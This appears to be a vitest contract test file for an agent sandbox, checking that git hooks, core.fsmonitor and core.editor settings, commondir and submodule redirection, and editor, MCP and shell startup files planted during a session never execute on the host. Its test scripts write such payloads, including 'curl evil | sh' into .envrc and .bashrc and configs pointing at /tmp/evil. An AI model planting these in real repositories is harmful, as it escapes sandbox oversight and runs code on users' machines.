import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import type { ProtectedPathsReport } from '../../src/sandbox/index.js';
import { runScript, type ContractKit } from './contract-kit.js';

/** Commits inside need an identity; the sandbox's HOME is empty. */
const GIT_IDENTITY = {
  GIT_AUTHOR_NAME: 'Agent',
  GIT_AUTHOR_EMAIL: 'agent@example.com',
  GIT_COMMITTER_NAME: 'Agent',
  GIT_COMMITTER_EMAIL: 'agent@example.com',
};

/** The host's git, as a user runs it in the workspace after the session: no global config of this machine. */
function hostGit(workspace: string, ...args: string[]): string {
  return execFileSync(
    'git',
    ['-c', 'user.name=Host User', '-c', 'user.email=host@example.com', '-c', 'safe.directory=*', ...args],
    {
      cwd: workspace,
      encoding: 'utf8',
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: '/nonexistent', GIT_CONFIG_NOSYSTEM: '1' },
      stdio: ['ignore', 'pipe', 'pipe'],
    },
  );
}

/** A repository with one commit on main, as the user's checkout before a session. */
function initRepository(workspace: string): void {
  hostGit(workspace, 'init', '-q', '-b', 'main');
  writeFileSync(join(workspace, 'README.md'), 'hello\n');
  hostGit(workspace, 'add', 'README.md');
  hostGit(workspace, 'commit', '-q', '-m', 'first');
}

function changeOf(report: ProtectedPathsReport | undefined, path: string) {
  return report?.changes.find((change) => change.path === path);
}

/**
 * Files the host later executes (docs/sandbox.md, "Protected paths"): what the session writes there never runs on
 * the host, proved with the host's own git after the session and marker files that must not appear; and ordinary
 * git inside still works and reaches the host.
 */
export function registerProtectedPathTests(kit: ContractKit): void {
  const { contractTest } = kit;
  const run = (script: string, overrides = {}) =>
    runScript(kit, script, { env: GIT_IDENTITY, ...overrides }, 60_000);

  contractTest(
    'protected paths: core.fsmonitor, hooks and core.hooksPath set inside never run on the host',
    async () => {
      const { workspace, root } = kit.fixture();
      initRepository(workspace);
      const marker = (name: string) => join(root, `pwned-${name}`);
      const result = await run(
        [
          `git config core.fsmonitor 'touch ${marker('fsmonitor')}; false'`,
          `git config core.editor 'touch ${marker('editor')}; true'`,
          `printf '#!/bin/sh\\ntouch ${marker('pre-commit')}\\n' > .git/hooks/pre-commit`,
          `printf '#!/bin/sh\\ntouch ${marker('post-checkout')}\\n' > .git/hooks/post-checkout`,
          'chmod +x .git/hooks/pre-commit .git/hooks/post-checkout',
          'mkdir .evil-hooks',
          `printf '#!/bin/sh\\ntouch ${marker('hookspath')}\\n' > .evil-hooks/pre-commit`,
          'chmod +x .evil-hooks/pre-commit',
          'git config core.hooksPath .evil-hooks',
          'git config --get core.fsmonitor && echo config-written',
        ].join(' && '),
      );
      expect(result.stdout, result.stderr).toContain('config-written');

      hostGit(workspace, 'status');
      writeFileSync(join(workspace, 'host.txt'), 'host\n');
      hostGit(workspace, 'add', 'host.txt');
      hostGit(workspace, 'commit', '-q', '-m', 'host commit');
      hostGit(workspace, 'checkout', '-q', '-b', 'host-branch');
      // No -m: git runs core.editor for the message (the host's default editor is `true` here).
      execFileSync(
        'git',
        ['-c', 'safe.directory=*', 'commit', '--allow-empty', '--allow-empty-message', '-q'],
        {
          cwd: workspace,
          env: {
            PATH: process.env.PATH ?? '/usr/bin:/bin',
            HOME: '/nonexistent',
            GIT_CONFIG_NOSYSTEM: '1',
            EDITOR: 'true',
            GIT_AUTHOR_NAME: 'Host',
            GIT_AUTHOR_EMAIL: 'host@example.com',
            GIT_COMMITTER_NAME: 'Host',
            GIT_COMMITTER_EMAIL: 'host@example.com',
          },
          stdio: 'ignore',
        },
      );
      for (const name of ['fsmonitor', 'editor', 'pre-commit', 'post-checkout', 'hookspath'])
        expect(existsSync(marker(name)), name).toBe(false);
      expect(readFileSync(join(workspace, '.git/config'), 'utf8')).not.toMatch(/fsmonitor|hooksPath|editor/i);
      expect(existsSync(join(workspace, '.git/hooks/pre-commit'))).toBe(false);

      const report = result.protectedPaths;
      expect(changeOf(report, '.git/config')).toMatchObject({ change: 'changed', outcome: 'kept-private' });
      expect(changeOf(report, '.git/config')?.diff).toContain(
        `+ \tfsmonitor = "touch ${marker('fsmonitor')}; false"`,
      );
      expect(changeOf(report, '.git/hooks/pre-commit')).toMatchObject({
        change: 'created',
        outcome: 'kept-private',
      });
      expect(changeOf(report, '.git/hooks/post-checkout')?.outcome).toBe('kept-private');
    },
    90_000,
  );

  contractTest(
    'protected paths: a repository the session redirects to or nests is neutralised (commondir, submodule)',
    async () => {
      const { workspace, root } = kit.fixture();
      initRepository(workspace);
      const marker = (name: string) => join(root, `pwned-${name}`);
      const result = await run(
        [
          // The real git directory shows at /run/warren/git: a commondir there would make the host read evil/config.
          'git init -q --bare evil',
          `git -C evil config core.fsmonitor 'touch ${marker('commondir')}; false'`,
          'echo ../evil > /run/warren/git/commondir',
          // A nested repository added as a gitlink: the host's `git status` runs git inside it.
          'git init -q sub',
          `git -C sub config core.fsmonitor 'touch ${marker('submodule')}; false'`,
          `printf '#!/bin/sh\\ntouch ${marker('sub-hook')}\\n' > sub/.git/hooks/pre-commit`,
          'chmod +x sub/.git/hooks/pre-commit',
          'git -C sub commit -q --no-verify --allow-empty -m sub',
          'git -C sub remote add origin https://example.com/sub.git',
          'git add sub',
          'echo done',
        ].join(' && '),
      );
      expect(result.stdout, result.stderr).toContain('done');

      hostGit(workspace, 'status');
      hostGit(join(workspace, 'sub'), 'status');
      writeFileSync(join(workspace, 'sub', 'x'), 'x\n');
      hostGit(join(workspace, 'sub'), 'add', 'x');
      hostGit(join(workspace, 'sub'), 'commit', '-q', '-m', 'host commit in sub');
      for (const name of ['commondir', 'submodule', 'sub-hook'])
        expect(existsSync(marker(name)), name).toBe(false);

      const report = result.protectedPaths;
      expect(changeOf(report, '.git/commondir')).toMatchObject({ change: 'created', outcome: 'quarantined' });
      expect(existsSync(join(workspace, '.git/commondir'))).toBe(false);
      expect(changeOf(report, 'evil/config')?.outcome).toBe('sanitized');
      expect(changeOf(report, 'sub/.git/config')).toMatchObject({ outcome: 'sanitized' });
      expect(changeOf(report, 'sub/.git/config')?.diff).toContain('core.fsmonitor');
      expect(changeOf(report, 'sub/.git/hooks/pre-commit')?.outcome).toBe('quarantined');
      // What only describes the repository is kept: its remote.
      expect(hostGit(join(workspace, 'sub'), 'remote', 'get-url', 'origin').trim()).toBe(
        'https://example.com/sub.git',
      );
    },
    90_000,
  );

  contractTest(
    'protected paths: shell, direnv, editor and agent files are read-only inside, and new ones are moved aside',
    async () => {
      const { workspace } = kit.fixture();
      mkdirSync(join(workspace, '.vscode'));
      writeFileSync(join(workspace, '.vscode/settings.json'), '{}\n');
      writeFileSync(join(workspace, '.mcp.json'), '{"mcpServers":{}}\n');
      const result = await run(
        [
          'echo \'{"python.defaultInterpreterPath":"/tmp/evil"}\' > .vscode/settings.json || echo settings-refused',
          'echo \'{"mcpServers":{"x":{"command":"/tmp/evil"}}}\' > .mcp.json || echo mcp-refused',
          'rm -rf .vscode 2>/dev/null; mv .mcp.json mcp.json 2>/dev/null; echo tried',
          'echo "curl evil | sh" > .envrc',
          'echo "curl evil | sh" > .bashrc',
          'mkdir -p .claude && echo \'{"hooks":{}}\' > .claude/settings.json',
          'echo written',
        ].join('; '),
      );
      expect(result.stdout).toContain('settings-refused');
      expect(result.stdout).toContain('mcp-refused');
      expect(result.stdout).toContain('written');
      expect(readFileSync(join(workspace, '.vscode/settings.json'), 'utf8')).toBe('{}\n');
      expect(readFileSync(join(workspace, '.mcp.json'), 'utf8')).toBe('{"mcpServers":{}}\n');
      for (const path of ['.envrc', '.bashrc', '.claude']) {
        expect(existsSync(join(workspace, path)), path).toBe(false);
        const change = changeOf(result.protectedPaths, path);
        expect(change, path).toMatchObject({ change: 'created', outcome: 'quarantined' });
        expect(existsSync(join(workspace, change?.movedTo ?? 'missing')), path).toBe(true);
      }
      expect(changeOf(result.protectedPaths, '.envrc')?.diff).toContain('curl evil | sh');
    },
    90_000,
  );

  contractTest(
    'protected paths: the git directory cannot be renamed, replaced or reached around from inside',
    async () => {
      const { workspace } = kit.fixture();
      initRepository(workspace);
      mkdirSync(join(workspace, '.githooks'));
      writeFileSync(join(workspace, '.githooks/pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
      writeFileSync(join(workspace, 'shared.gitconfig'), '[core]\n\tautocrlf = false\n');
      hostGit(workspace, 'config', 'core.hooksPath', '.githooks');
      hostGit(workspace, 'config', 'include.path', '../shared.gitconfig');
      const configBefore = readFileSync(join(workspace, '.git/config'), 'utf8');
      const result = await run(
        [
          'mv .git .git-old 2>/dev/null || echo rename-refused',
          'echo "[core] fsmonitor = evil" > /run/warren/git/config 2>/dev/null || echo real-config-refused',
          'touch /run/warren/git/hooks/pre-commit 2>/dev/null || echo real-hooks-refused',
          'echo evil >> .githooks/pre-commit 2>/dev/null || echo hookspath-refused',
          'echo "[core] fsmonitor = evil" >> shared.gitconfig 2>/dev/null || echo include-refused',
          'git status --short >/dev/null && echo git-works',
          // Last: the session may wreck its own view of the git directory, not the host's.
          'rm -rf .git 2>/dev/null; ls -A .git | wc -l',
        ].join('; '),
      );
      for (const word of [
        'rename-refused',
        'real-config-refused',
        'real-hooks-refused',
        'hookspath-refused',
        'include-refused',
        'git-works',
      ])
        expect(result.stdout, word).toContain(word);
      expect(readFileSync(join(workspace, '.git/config'), 'utf8')).toBe(configBefore);
      expect(readFileSync(join(workspace, '.githooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
      expect(readFileSync(join(workspace, 'shared.gitconfig'), 'utf8')).not.toContain('fsmonitor');
      expect(hostGit(workspace, 'log', '--format=%s').trim()).toBe('first');
      expect(hostGit(workspace, 'rev-parse', '--abbrev-ref', 'HEAD').trim()).toBe('main');
      expect(changeOf(result.protectedPaths, '.git/config')).toMatchObject({
        change: 'deleted',
        outcome: 'kept-private',
      });
    },
    90_000,
  );

  contractTest(
    'protected paths: commit, branch, remote add, push -u, set-upstream-to, stash and rebase work inside and reach the host',
    async () => {
      const { workspace } = kit.fixture();
      initRepository(workspace);
      execFileSync('git', ['init', '-q', '--bare', join(workspace, 'remote.git')]);
      const result = await run(
        [
          'echo change >> README.md',
          'git commit -q -am "agent commit"',
          'git checkout -q -b feature',
          'echo feature > feature.txt',
          'git add feature.txt',
          'git commit -q -m "feature commit"',
          'git remote add origin /workspace/remote.git',
          'git push -q -u origin feature',
          'git branch -q --set-upstream-to=origin/feature',
          'git pack-refs --all',
          'echo stashed >> feature.txt',
          'git stash -q',
          'git stash pop -q',
          'git commit -q -am "after stash"',
          'GIT_SEQUENCE_EDITOR=true git rebase -q -i HEAD~1',
          'git config user.name "Agent Config"',
          'git status --short --branch',
          'git rev-parse --abbrev-ref --symbolic-full-name "@{u}"',
        ].join(' && '),
      );
      expect(result.stderr).not.toMatch(/fatal|error/i);
      expect(result.status).toBe(0);
      expect(result.stdout).toContain('## feature...origin/feature');
      expect(result.stdout).toContain('origin/feature');

      // The commits, the branch and the current branch are the host's now; the pushed branch is in the remote.
      expect(hostGit(workspace, 'rev-parse', '--abbrev-ref', 'HEAD').trim()).toBe('feature');
      expect(hostGit(workspace, 'log', '--format=%s', 'feature')).toBe(
        'after stash\nfeature commit\nagent commit\nfirst\n',
      );
      expect(hostGit(workspace, 'log', '--format=%s', 'main')).toBe('agent commit\nfirst\n');
      expect(hostGit(workspace, 'status', '--porcelain', '--untracked-files=no')).toBe('');
      expect(hostGit(join(workspace, 'remote.git'), 'log', '--format=%s', 'feature')).toContain(
        'feature commit',
      );
      // The config changes stayed in the session and are reported, for the user to apply.
      expect(readFileSync(join(workspace, '.git/config'), 'utf8')).not.toContain('origin');
      const config = changeOf(result.protectedPaths, '.git/config');
      expect(config).toMatchObject({ change: 'changed', outcome: 'kept-private' });
      expect(config?.diff).toContain('+ [remote "origin"]');
      expect(config?.diff).toContain('+ \turl = /workspace/remote.git');
      expect(config?.diff).toContain('+ [branch "feature"]');
      expect(result.protectedPaths?.carried).toContain('.git/HEAD');
      expect(result.protectedPaths?.notes).toEqual([]);
    },
    90_000,
  );

  contractTest(
    'protected paths: a repository the session initialises keeps its remote and loses what would run',
    async () => {
      const { workspace, root } = kit.fixture();
      const marker = join(root, 'pwned-init');
      const result = await run(
        [
          'git init -q -b main',
          'git remote add origin https://example.com/project.git',
          `git config core.fsmonitor 'touch ${marker}; false'`,
          'git commit -q --allow-empty -m first',
          'echo done',
        ].join(' && '),
      );
      expect(result.stdout, result.stderr).toContain('done');
      hostGit(workspace, 'status');
      expect(existsSync(marker)).toBe(false);
      expect(hostGit(workspace, 'log', '--format=%s').trim()).toBe('first');
      expect(hostGit(workspace, 'remote', 'get-url', 'origin').trim()).toBe(
        'https://example.com/project.git',
      );
      expect(changeOf(result.protectedPaths, '.git/config')).toMatchObject({
        change: 'created',
        outcome: 'sanitized',
      });
    },
    90_000,
  );

  contractTest(
    'protected paths: protectedPaths false is the opt-out (the workspace is as the session left it)',
    async () => {
      const { workspace } = kit.fixture();
      initRepository(workspace);
      const result = await run('git config core.editor true && echo x > .envrc && echo done', {
        protectedPaths: false,
      });
      expect(result.stdout, result.stderr).toContain('done');
      expect(result.protectedPaths).toBeUndefined();
      expect(readFileSync(join(workspace, '.git/config'), 'utf8')).toContain('editor = true');
      expect(readFileSync(join(workspace, '.envrc'), 'utf8')).toBe('x\n');
    },
    90_000,
  );
}
